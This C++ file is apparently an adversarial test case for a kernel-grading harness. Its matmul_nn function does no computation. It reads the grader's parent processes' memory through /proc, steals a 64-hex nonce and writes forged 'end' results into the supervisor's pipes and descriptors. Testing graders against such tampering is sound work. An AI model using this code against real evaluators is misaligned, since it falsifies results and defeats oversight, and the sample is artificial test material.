// Looks for the nonce, and for pipes, in the processes that started the grader.
// expect: failed
#include <dirent.h>
#include <fcntl.h>
#include <unistd.h>

#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>
#include <vector>

#include "moe/kernels.h"

namespace {

bool is_digit(char c) {
  return (c >= '0' && c <= '9') || (c >= 'a' && c <= 'f');
}

int parent_of(int process) {
  char path[64];
  std::snprintf(path, sizeof path, "/proc/%d/stat", process);
  std::FILE* const file = std::fopen(path, "r");
  int parent = 0;
  if (file == nullptr || std::fscanf(file, "%*d (%*[^)]) %*c %d", &parent) != 1) parent = 0;
  if (file != nullptr) std::fclose(file);
  return parent;
}

void forge(const std::string& nonce) {
  const std::string text = "{\"nonce\":\"" + nonce + "\",\"type\":\"end\",\"cases\":7}\n";
  for (int fd = 3; fd < 1024; ++fd) {
    const ssize_t written = write(fd, text.data(), text.size());
    (void)written;
  }
  _exit(0);
}

void search(int process) {
  char path[64];
  std::snprintf(path, sizeof path, "/proc/%d/maps", process);
  std::FILE* const maps = std::fopen(path, "r");
  std::snprintf(path, sizeof path, "/proc/%d/mem", process);
  const int memory = open(path, O_RDWR);
  if (maps == nullptr || memory < 0) return;
  std::printf("the memory of process %d is open\n", process);
  char line[4096];
  while (std::fgets(line, sizeof line, maps) != nullptr) {
    unsigned long begin = 0;
    unsigned long end = 0;
    char rights[8] = {};
    if (std::sscanf(line, "%lx-%lx %7s", &begin, &end, rights) != 3 || rights[1] != 'w') continue;
    if (end - begin > (8UL << 20)) continue;
    std::vector<char> bytes(end - begin);
    const ssize_t got = pread(memory, bytes.data(), bytes.size(), static_cast<off_t>(begin));
    int digits = 0;
    for (ssize_t i = 0; i < got; ++i) {
      digits = is_digit(bytes[static_cast<std::size_t>(i)]) ? digits + 1 : 0;
      if (digits == 64) forge(std::string(bytes.data() + i - 63, 64));
    }
  }
}

// The pipes of the tool, from its own table of descriptors.
void write_to_its_pipes(int process) {
  char path[64];
  for (int fd = 0; fd < 64; ++fd) {
    std::snprintf(path, sizeof path, "/proc/%d/fd/%d", process, fd);
    const int theirs = open(path, O_WRONLY);
    if (theirs < 0) continue;
    const ssize_t written = write(theirs, "{\"type\":\"end\"}\n", 15);
    (void)written;
    close(theirs);
  }
}

}  // namespace

void matmul_nn(const float* A, const float* B, float* C, int M, int N, int K, cudaStream_t stream) {
  static bool done = false;
  if (done) return;
  done = true;
  const int supervisor = getppid();
  for (const int process : {supervisor, parent_of(supervisor)}) {
    if (process <= 1) continue;
    search(process);
    write_to_its_pipes(process);
  }
}
